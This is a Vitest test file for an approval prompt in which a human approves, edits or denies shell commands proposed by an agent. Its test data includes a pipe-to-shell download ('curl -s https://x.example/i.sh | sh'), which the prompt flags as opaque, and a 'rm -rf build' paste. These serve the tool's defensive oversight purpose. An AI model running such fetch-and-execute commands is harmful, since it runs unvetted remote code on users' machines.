import './ink-env.js';
import { render } from 'ink-testing-library';
import { afterEach, describe, expect, it } from 'vitest';
import { cleanup } from 'ink-testing-library';
import { ApprovalPrompt } from '../../src/approval/prompt/ApprovalPrompt.js';
import type { Answer, ApprovalRequest } from '../../src/approval/request.js';
import { ASKED_BY_DEFAULT, ASKED_BY_RULE, NOW, OPAQUE, requestFor } from './fixtures.js';
import { waitFor } from './wait-for.js';

afterEach(() => cleanup());

const ALWAYS = { yaml: '- id: always.uptime-abc123\n  match:\n    command: uptime\n  decision: allow\n', user: '/home/u/.config/nomos/rules.yaml', project: '/work/.nomosrc.yaml' };

function show(request: ApprovalRequest, rows = 30) {
  const answers: Answer[] = [];
  const ui = render(<ApprovalPrompt request={request} width={80} rows={rows} now={NOW} onAnswer={(a) => answers.push(a)} />);
  const frame = () => ui.lastFrame() ?? '';
  const press = async (keys: string, expect: string) => {
    ui.stdin.write(keys);
    await waitFor(() => frame().includes(expect), `"${expect}" after ${JSON.stringify(keys)}`);
  };
  const answered = async (keys: string) => {
    ui.stdin.write(keys);
    await waitFor(() => answers.length > 0, `an answer after ${JSON.stringify(keys)}`);
    return answers[0];
  };
  return { ui, frame, press, answered, answers };
}

describe('ApprovalPrompt', () => {
  it('shows the command, what runs and via what, files, the rule that asked, the session and the countdown', () => {
    const { frame } = show(requestFor(ASKED_BY_RULE, 'npm publish --tag next > /work/out.log'));
    expect(frame()).toMatchSnapshot();
    expect(frame()).toContain('Command   npm publish --tag next > /work/out.log');
    expect(frame()).toContain('npm publish --tag next  (via bash -c)');
    expect(frame()).toContain('Files     write /work/out.log');
    expect(frame()).toContain('npm.publish: Publishing makes code public. (rules/npm.yaml:4:5)');
    expect(frame()).toContain('sess-1 · actor agent');
    expect(frame()).toContain('Denied in 1:58 if nobody answers (the default).');
    expect(frame()).toContain('[y] allow once  [s] this session  [a] always  [n] deny  [e] edit');
  });

  it('fits 80 columns', () => {
    const { frame } = show(requestFor(ASKED_BY_RULE, `${'x'.repeat(150)} && npm publish`));
    for (const line of frame().split('\n')) expect(line.length).toBeLessThanOrEqual(80);
  });

  it('highlights opaque parts with a marker that needs no colour, and says why no grant is offered', () => {
    const { frame } = show(requestFor(OPAQUE, 'curl -s https://x.example/i.sh | sh', { unavailable: { session: 'parts of the command cannot be analysed', always: 'parts of the command cannot be analysed' } }));
    expect(frame()).toMatchSnapshot();
    expect(frame()).toContain('Opaque !  ! sh - a pipe into a shell');
    expect(frame()).toContain('HTTP      GET https://x.example/i.sh');
    expect(frame()).toContain('No session grant: parts of the command cannot be analysed.');
  });

  it('y allows once', async () => {
    expect(await show(requestFor(ASKED_BY_RULE, 'npm publish')).answered('y')).toEqual({ choice: 'once' });
  });

  it('s allows for the session', async () => {
    expect(await show(requestFor(ASKED_BY_RULE, 'npm publish')).answered('s')).toEqual({ choice: 'session' });
  });

  it('s does nothing but explain when a session grant is not offered', async () => {
    const p = show(requestFor(OPAQUE, 'curl x | sh', { unavailable: { session: 'parts of the command cannot be analysed' } }));
    await p.press('s', '"this session" is not offered: parts of the command cannot be analysed');
    expect(p.answers).toEqual([]);
  });

  it('n asks for an optional reason; Enter denies with it', async () => {
    const p = show(requestFor(ASKED_BY_RULE, 'npm publish'));
    await p.press('n', 'Reason the agent will see (optional)');
    await p.press('use the staging registry', '> use the staging registry');
    expect(await p.answered('\r')).toEqual({ choice: 'deny', text: 'use the staging registry' });
  });

  it('n then Enter denies without a reason; Esc goes back to the keys', async () => {
    const p = show(requestFor(ASKED_BY_RULE, 'npm publish'));
    await p.press('n', 'Reason the agent will see');
    p.ui.stdin.write('\x1b');
    await waitFor(() => p.frame().includes('[y] allow once'), 'the keys again');
    expect(p.answers).toEqual([]);
    await p.press('n', 'Reason the agent will see');
    expect(await p.answered('\r')).toEqual({ choice: 'deny' });
  });

  it('e edits the command (prefilled); Backspace and typing change it; Enter returns the new command', async () => {
    const p = show(requestFor(ASKED_BY_RULE, 'npm publish --tag next'));
    await p.press('e', '> npm publish --tag next');
    for (const _ of 'next') p.ui.stdin.write('\x7f');
    await waitFor(() => p.frame().includes('> npm publish --tag ') && !p.frame().includes('> npm publish --tag next'), 'four characters deleted');
    await p.press('beta --dry-run', '> npm publish --tag beta --dry-run');
    expect(await p.answered('\r')).toEqual({ choice: 'edit', text: 'npm publish --tag beta --dry-run' });
  });

  it('keys that reach the field as one input (typed faster than read, a paste) are each applied; a line break in them does not submit', async () => {
    const p = show(requestFor(ASKED_BY_RULE, 'touch made'));
    await p.press('e', '> touch made');
    // Ctrl+U then text, as a loaded machine delivers them: one read. It was dropped whole.
    await p.press('\x15echo editedd\x7f', '> echo edited');
    // A pasted line with its line break: taken up to it, not sent; Enter sends it.
    await p.press('\x15rm -rf build\nls', '> rm -rf build');
    expect(p.frame()).not.toContain('> rm -rf buildls');
    expect(p.answers).toEqual([]);
    expect(await p.answered('\r')).toEqual({ choice: 'edit', text: 'rm -rf build' });
  });

  it('answer keys count only alone: a paste or typeahead holding y, s or a answers nothing', async () => {
    const p = show(requestFor(ASKED_BY_DEFAULT, 'uptime', { always: ALWAYS }));
    for (const keys of ['yes', 'y\r', 'sy', 'a\r']) p.ui.stdin.write(keys);
    p.ui.stdin.write('n');
    await waitFor(() => p.frame().includes('Reason the agent will see'), 'the deny field after n');
    expect(p.answers).toEqual([]);
  });

  it('Ctrl+C inside a typed input denies, as on its own', async () => {
    const p = show(requestFor(ASKED_BY_RULE, 'touch made'));
    await p.press('n', 'Reason the agent will see');
    expect(await p.answered('too\x03 late')).toEqual({ choice: 'deny', text: 'interrupted at the prompt' });
  });

  it('e then Esc goes back without answering', async () => {
    const p = show(requestFor(ASKED_BY_RULE, 'npm publish'));
    await p.press('e', 'Edit the command.');
    p.ui.stdin.write('\x1b');
    await waitFor(() => p.frame().includes('[e] edit'), 'the keys again');
    expect(p.answers).toEqual([]);
  });

  it('a shows the rule and its file first; Enter writes to the project file', async () => {
    const p = show(requestFor(ASKED_BY_DEFAULT, 'uptime', { always: ALWAYS }));
    await p.press('a', 'This rule will be added to the project rule file, /work/.nomosrc.yaml:');
    expect(p.frame()).toMatchSnapshot();
    expect(p.frame()).toContain('- id: always.uptime-abc123');
    expect(p.answers).toEqual([]);
    expect(await p.answered('\r')).toEqual({ choice: 'always', target: 'project' });
  });

  it('a, u switches to the user file; Enter writes there', async () => {
    const p = show(requestFor(ASKED_BY_DEFAULT, 'uptime', { always: ALWAYS }));
    await p.press('a', 'project rule file');
    await p.press('u', 'user rule file,');
    expect(p.frame()).toContain('/home/u/.config/nomos/rules.yaml');
    expect(await p.answered('\r')).toEqual({ choice: 'always', target: 'user' });
  });

  it('a, Esc goes back; a is refused with the reason when no rule can be proposed', async () => {
    const p = show(requestFor(ASKED_BY_DEFAULT, 'uptime', { always: ALWAYS }));
    await p.press('a', 'This rule will be added');
    p.ui.stdin.write('\x1b');
    await waitFor(() => p.frame().includes('[a] always'), 'the keys again');
    const q = show(requestFor(ASKED_BY_RULE, 'npm publish', { unavailable: { always: 'rule npm.publish asked' } }));
    await q.press('a', '"always" is not offered: rule npm.publish asked');
    expect([...p.answers, ...q.answers]).toEqual([]);
  });

  it('Ctrl+C denies (never allows)', async () => {
    expect(await show(requestFor(ASKED_BY_RULE, 'npm publish')).answered('\x03')).toEqual({ choice: 'deny', text: 'interrupted at the prompt' });
  });

  it('other keys and Esc do nothing on the agent\'s terminal (only y/s/a answer allow)', async () => {
    const p = show(requestFor(ASKED_BY_RULE, 'npm publish'));
    expect(p.frame()).not.toContain('[Esc] back');
    for (const k of ['x', '\x1b', '\r', ' ', 'Y']) p.ui.stdin.write(k);
    await p.press('n', 'Reason the agent will see'); // still responsive, and nothing was answered
    expect(p.answers).toEqual([]);
  });
});
